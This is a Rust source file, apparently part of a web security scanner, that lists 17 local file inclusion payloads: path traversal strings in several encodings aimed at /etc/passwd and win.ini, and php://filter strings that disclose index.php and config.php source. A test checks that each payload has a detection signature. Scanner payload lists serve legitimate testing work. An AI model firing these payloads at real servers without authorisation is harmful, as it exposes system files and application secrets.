/// Traversal string aimed at a known file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct LfiPayload {
    pub payload: &'static str,
    pub target_file: &'static str,
    pub signature: &'static str,
}

const fn entry(payload: &'static str, target_file: &'static str, signature: &'static str) -> LfiPayload {
    LfiPayload {
        payload,
        target_file,
        signature,
    }
}

pub static CATALOG: &[LfiPayload] = &[
    // Linux /etc/passwd
    entry("../../../etc/passwd", "/etc/passwd", "etc_passwd"),
    entry("....//....//....//etc/passwd", "/etc/passwd", "etc_passwd"),
    entry("..%2f..%2f..%2fetc%2fpasswd", "/etc/passwd", "etc_passwd"),
    entry("..%252f..%252f..%252fetc%252fpasswd", "/etc/passwd", "etc_passwd"),
    entry("/etc/passwd", "/etc/passwd", "etc_passwd"),
    entry("....//....//....//....//etc/passwd", "/etc/passwd", "etc_passwd"),
    entry("..\\..\\..\\etc\\passwd", "/etc/passwd", "etc_passwd"),
    entry("/etc/passwd%00", "/etc/passwd", "etc_passwd"),
    entry("../../../etc/passwd%00.jpg", "/etc/passwd", "etc_passwd"),
    // Windows win.ini
    entry("..\\..\\..\\windows\\win.ini", "win.ini", "win_ini"),
    entry("....//....//....//windows/win.ini", "win.ini", "win_ini"),
    entry("C:\\Windows\\win.ini", "win.ini", "win_ini"),
    entry("/windows/win.ini", "win.ini", "win_ini"),
    entry("..%5c..%5c..%5cwindows%5cwin.ini", "win.ini", "win_ini"),
    // php://filter source disclosure
    entry(
        "php://filter/convert.base64-encode/resource=index.php",
        "PHP Source",
        "php_source",
    ),
    entry(
        "php://filter/read=convert.base64-encode/resource=../index.php",
        "PHP Source",
        "php_source",
    ),
    entry(
        "php://filter/convert.base64-encode/resource=config.php",
        "PHP Source",
        "php_source",
    ),
];

pub fn catalog() -> Vec<LfiPayload> {
    CATALOG.to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lfi::signatures;

    #[test]
    fn test_every_entry_has_a_signature_set() {
        assert_eq!(CATALOG.len(), 17);
        for p in CATALOG {
            assert!(signatures::lookup(p.signature).is_some(), "{}", p.payload);
        }
    }
}
